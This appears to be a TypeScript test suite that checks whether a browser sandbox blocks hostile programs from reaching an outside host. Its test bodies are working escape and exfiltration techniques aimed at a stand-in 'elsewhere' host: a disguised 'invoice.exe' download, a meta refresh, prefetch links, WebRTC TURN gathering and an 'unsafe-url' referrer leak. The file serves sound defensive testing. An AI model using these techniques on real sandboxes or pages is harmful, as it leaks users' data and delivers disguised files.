import { Space, lastWord, pause, frames } from './hostile/space.js';
import type { Program } from './hostile/program.js';
const run = (name: string, program: Program) => it(name, async () => {
  const space = await Space.open();
  await space.attackWith(program);
  const outcome = await space.call();
  const last = await Promise.race([lastWord(outcome), pause(3000)]);
  await pause(300);
  const log = await space.log();
  console.log(name, JSON.stringify([outcome.status, (outcome as any).reason, last && (last as any).status, log.notes, log.elsewhere, log.others.map(o => o.url), frames().length]));
  for (const f of frames()) f.remove();
});

for (let i = 0; i < 4; i++) run('downloads both', async ({ attempt, elsewhere, succeed }) => {
      const link = document.createElement('a');
      link.download = 'invoice.exe';
      document.documentElement.append(link);
      await attempt('elsewhere', () => {
        link.href = `${elsewhere}/download`;
        link.click();
      });
      await attempt('blob', () => {
        link.href = URL.createObjectURL(new Blob(['x']));
        link.click();
      });
      await attempt('x', () => {});
      succeed();
});
run('meta', async ({attempt, elsewhere, succeed, note}) => { document.head.insertAdjacentHTML('beforeend', `<meta http-equiv=refresh content="0;url=${elsewhere}/refresh">`); await attempt('x', () => {}); setTimeout(succeed, 500) });
for (const rel of ['preconnect', 'dns-prefetch'])
run(rel, new Function('t', `return (async ({attempt, elsewhere, succeed, note}) => { document.head.insertAdjacentHTML('beforeend', '<link rel=${rel} href='+elsewhere+'>'); await attempt('x', () => {}); setTimeout(succeed, 500) })(t)`) as any);
run('rtc', async ({attempt, elsewhere, stun, succeed, note}) => { 
 await attempt('rtc', async () => {
 const c = new RTCPeerConnection({iceServers: [{urls: 'stun:' + stun}, {urls: 'turn:' + elsewhere.slice(7) + '?transport=tcp', username: 'a', credential: 'b'}]});
 c.createDataChannel('x');
 await c.setLocalDescription(await c.createOffer()); await new Promise(r => setTimeout(r, 300)); return c.iceGatheringState; });
 await attempt('y', async () => { await new Promise(r => setTimeout(r, 400)) });
 succeed() });
run('unsafe referer', async ({attempt, api, succeed, note}) => { await attempt('x', () => document.baseURI + ' ' + document.referrer + ' ' + JSON.stringify(location.ancestorOrigins) + self.origin);
  const s = document.createElement('script'); s.referrerPolicy = 'unsafe-url'; s.src = api + '/other?x=' ; document.head.append(s); await new Promise(r => s.onload = r);
 succeed() });
it('referer', async () => { console.log(JSON.stringify((await Space.all.at(-1)!.log()).others)) });
